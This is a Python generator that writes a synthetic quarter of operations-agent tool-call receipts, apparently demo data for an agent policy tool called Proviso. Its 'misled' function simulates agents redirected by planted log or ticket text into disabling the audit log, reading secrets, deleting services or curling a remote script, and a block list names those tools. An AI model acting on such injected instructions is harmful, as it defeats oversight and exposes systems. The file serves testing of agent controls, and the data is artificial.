#!/usr/bin/env python3
"""Writes a made-up quarter of an operations team's agents, as Proviso receipts.

    policies/devops/demo/generate.py | gzip -9n > policies/devops/demo/history.jsonl.gz

Always the same lines. `recorded` is what the team of that quarter did, by habits of its own: most
things were looked at by whoever was awake, the freeze was a wiki page, and nobody counted loops.
"""

import datetime
import pathlib
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2]))
from history import Dice, stamp, write  # noqa: E402

CALLS = 3000
START = datetime.datetime(2026, 9, 28, 6, 10)

# name: critical, customer_facing, personal_data, instances, dependents
SERVICES = {
    "checkout": (True, True, True, 24, 9),
    "catalogue": (True, True, False, 30, 14),
    "accounts": (True, True, True, 12, 22),
    "search": (False, True, False, 16, 4),
    "mailer": (False, False, True, 6, 2),
    "reports": (False, False, False, 4, 0),
    "thumbnails": (False, False, False, 10, 1),
    "billing": (True, False, True, 8, 6),
    "ci-runner": (False, False, False, 20, 3),
}
FIELDS = ("critical", "customer_facing", "personal_data", "instances", "dependents")
PEOPLE = {
    "eng-1": ["engineer"], "eng-2": ["engineer"], "eng-3": ["engineer"],
    "jun-1": ["junior_engineer"], "jun-2": ["junior_engineer"],
    "rel-1": ["engineer"], "dba-1": ["database_owner"], "ic-1": ["incident_commander"],
    "obs-1": ["observer"], "alert-manager": ["engineer"],
}


FIT = {"tested": True, "signed": True, "reviewed": True}

# Who asks for what, and how often.
ASKS = {
    "incident": ("alert-manager",) * 6 + ("eng-1", "eng-2", "eng-3", "jun-1"),
    "release": ("rel-1", "rel-1", "eng-1", "eng-2", "eng-3", "jun-1"),
    "configure": ("eng-1", "eng-2", "eng-3", "rel-1", "jun-2"),
    "data": ("dba-1", "dba-1", "eng-2"),
    "plan": ("eng-1", "eng-3", "ic-1"),
    "access": ("eng-1", "eng-2", "eng-3", "obs-1"),
    "upkeep": ("eng-1", "eng-2", "jun-1", "jun-2", "obs-1"),
    "misled": ("alert-manager", "eng-1", "jun-2"),
}


def version(dice):
    return f"{4 + dice.below(2)}.{dice.below(12)}.{dice.below(5)}"


def incident(dice, who, service):
    """An alert: look, restart, and if that does not help go back to what worked."""
    severity = dice.one_of(("sev3", "sev3", "sev2", "sev2", "sev1"))
    host = {"incident.id": f"INC-{100 + dice.below(900)}", "incident.severity": severity}
    calls = [("query_metrics", {"service": service}, host),
             ("search_logs", {"service": service, "query": "level=error"}, host),
             ("restart_service", {"service": service, "instances": 1 + dice.below(4)}, host)]
    if dice.chance(0.15):
        calls += [calls[2]] * (2 + dice.below(7))  # a loop
    if dice.chance(0.4):
        undo = dict(host, undoing=dice.chance(0.9), facts={"build": FIT})
        calls.append(("rollback", {"service": service, "version": version(dice)}, undo))
    if dice.chance(0.3):
        calls.append(("scale_service", {"service": service, "to": 4 + dice.below(60)}, host))
    return "remedy-bot", calls + [("note_incident", {"text": "Looks stable again"}, host)]


def release(dice, who, service):
    build = version(dice)
    fit = {"build": {"tested": dice.chance(0.96), "signed": True, "reviewed": dice.chance(0.93)}}
    host = {"change.author": dice.one_of(("eng-1", "eng-2", "eng-3", "jun-1")), "facts": fit}
    steps = (5, 25, 100) if dice.chance(0.8) else (100,)
    return "release-bot", [("list_deployments", {"service": service}, {})] + [
        ("deploy", {"service": service, "version": build, "percent": step}, host) for step in steps]


def configure(dice, who, service):
    host = {"change.category": dice.one_of(("standard", "standard", "normal"))}
    args = {"service": service, "setting": "pool.size", "value": str(8 + dice.below(40))}
    calls = [("change_config", args, host)]
    if dice.chance(0.15):
        back = {"service": service, "setting": "pool.size"}
        calls.append(("revert_config", back, dict(host, undoing=True)))
    return "release-bot", calls


def data(dice, who, service):
    rows = dice.one_of((1, 12, 80, 400, 900, 5000, 60000))
    where = "" if dice.chance(0.05) else " WHERE id < 1000"
    ask = {"service": service, "query": "SELECT id FROM orders", "rows": dice.one_of((10, 50, 2000))}
    change = {"service": service, "statement": "UPDATE orders SET state = 1" + where, "rows": rows}
    calls = [("db_query", ask, {}), ("db_update", change, {})]
    if dice.chance(0.2):
        calls.append(("db_migrate", {"service": service, "migration": f"{dice.below(400):04}"}, {}))
    return "release-bot", calls


def plan(dice, who, service):
    counted = {"plan": {"changed": dice.below(40), "destroyed": dice.one_of((0, 0, 0, 2, 30))}}
    args = {"service": service, "plan_id": f"plan-{dice.below(10000):04}"}
    return "release-bot", [("apply_plan", args, {"facts": counted, "stage": "prepare"}),
                           ("apply_plan", args, {"facts": counted})]


def access(dice, who, service):
    args = {"subject": dice.one_of(("eng-1", "eng-2", "jun-2", "contractor-4", who)),
            "role": dice.one_of(("log-reader", "debug-shell", "db-reader", "owner", "deploy-once")),
            "until": None, "reason": f"INC-{dice.below(900)}"}
    if dice.chance(0.8):
        args["until"] = dice.one_of((2, 4, 8, 48))
    return "access-bot", [("iam_grant", args, {})]


def upkeep(dice, who, service):
    return "remedy-bot", [dice.one_of((
        ("flush_cache", {"service": service}, {}),
        ("rotate_key", {"service": service, "key": "api"}, {}),
        ("restart_service", {"service": service, "instances": 1}, {}),
        ("read_runbook", {"name": f"{service}-slow"}, {})))]


def misled(dice, who, service):
    """What a planted text in a log or a ticket made an agent try."""
    name, tool, args = dice.one_of((
        ("switch off a control", "disable_control", {"control": "audit-log"}),
        ("read a secret", "read_secret", {"name": f"{service}/db"}),
        ("delete a service", "delete_service", {"service": service}),
        ("pretend to be in dev", "restart_service",
         {"service": service, "instances": 1, "environment": "dev"}),
        ("restart everything", "restart_service", {"service": "every service", "instances": 500}),
        ("scale to nothing", "scale_service", {"service": service, "to": 0}),
        ("fetch a script", "curl", {"url": "https://example.net/fix.sh"})))
    return "remedy-bot", [("search_logs", {"service": service, "query": "warn"}, {}),
                          (tool, args, {"intent": f"attack: {name}"})]


KINDS = ((30, incident), (22, release), (14, configure), (9, data), (5, plan), (6, access),
         (20, upkeep), (3, misled))


def kind_of(dice):
    mark = dice.below(sum(weight for weight, _ in KINDS))
    for weight, kind in KINDS:
        mark -= weight
        if mark < 0:
            return kind
    raise AssertionError("the weights add up")


def habit(tool, args, place):
    """What the team of that quarter did with a call."""
    if tool in ("disable_control", "read_secret", "delete_service", "curl"):
        return "block"
    if tool.startswith("iam_"):
        return "gate"
    if place != "production" or tool in ("query_metrics", "search_logs", "read_runbook", "db_query",
                                         "list_deployments", "note_incident", "flush_cache"):
        return "allow"
    return "gate" if tool in ("deploy", "apply_plan", "db_migrate", "rollback") else "allow"


def recorded(dice, tool, args, place, time):
    outcome = habit(tool, args, place)
    told = {"outcome": outcome, "policy": {"name": "team.habits", "version": "2026"}}
    if outcome == "gate" and dice.chance(0.9):
        word = dice.one_of(("approve",) * 8 + ("reject", "edit"))
        seen = time + datetime.timedelta(minutes=2 + dice.below(90))
        told["verdict"] = {"approve": "approved", "edit": "edited", "reject": "rejected"}[word]
        told["approvals"] = [{"by": dice.one_of(("rel-2", "sec-1", "eng-4")),
                              "requested_at": stamp(time), "at": stamp(seen), "verdict": word}]
    return told


def facts_of(dice, args, host):
    facts = {}
    name = args.get("service")
    if name in SERVICES and dice.chance(0.99):  # the inventory does not always answer
        facts["service"] = {"key": name, "values": dict(zip(FIELDS, SERVICES[name]))}
    for fact, key in (("build", "version"), ("plan", "plan_id")):
        if fact in host.get("facts", {}):
            facts[fact] = {"key": args[key], "values": host["facts"][fact]}
    return facts


def receipt(dice, number, run, who, agent, place, call, risk, time):
    tool, args, host = call
    args = dict(args)
    if args.get("until"):
        args["until"] = stamp(time + datetime.timedelta(hours=args["until"]))
    attributes = {"change.category": "normal", "change.risk": risk}
    attributes.update({k: v for k, v in host.items() if "." in k})
    line = {
        "format": "proviso-receipt-1", "id": f"call-{number:04}", "time": stamp(time),
        "tool": tool, "args": args,
        "principal": {"id": who, "roles": PEOPLE[who]},
        "agent": {"id": agent, "model": "m-7", "version": "2026-09-01",
                  "confidence": (55 + dice.below(45)) / 100},
        "workflow": {"name": "operations", "version": "4", "run": f"run-{run:04}"},
        "environment": place, "attributes": attributes,
        "recorded": recorded(dice, tool, args, place, time),
    }
    facts = facts_of(dice, args, host)
    line.update({"facts": facts} if facts else {})
    line.update({key: host[key] for key in ("stage", "undoing", "intent") if key in host})
    if dice.chance(0.01):
        del line["attributes"]["change.risk"]  # a change record that nobody filled in
    return line


def moved_on(dice, time):
    """Half an hour or two later; mostly when people work."""
    time += datetime.timedelta(minutes=5 + dice.below(60))
    while (time.weekday() > 4 or not 7 <= time.hour < 15) and dice.chance(0.85):
        time += datetime.timedelta(hours=1)
    return time


def history():
    dice = Dice(20260928)
    time, run, number = START, 0, 0
    while True:
        run += 1
        time = moved_on(dice, time)
        kind = kind_of(dice)
        who = dice.one_of(ASKS[kind.__name__])
        service = dice.one_of(tuple(SERVICES))
        place = dice.one_of(("dev", "staging", "staging", "production", "production", "production"))
        if who.startswith("jun") and dice.chance(0.8):
            place = "staging"
        agent, calls = kind(dice, who, service)
        risk = dice.one_of((5, 10, 20, 35, 50, 80))
        for call in calls:
            number += 1
            if number > CALLS:
                return
            time += datetime.timedelta(seconds=20 + dice.below(160))
            yield receipt(dice, number, run, who, agent, place, call, risk, time)


if __name__ == "__main__":
    write(history(), CALLS)
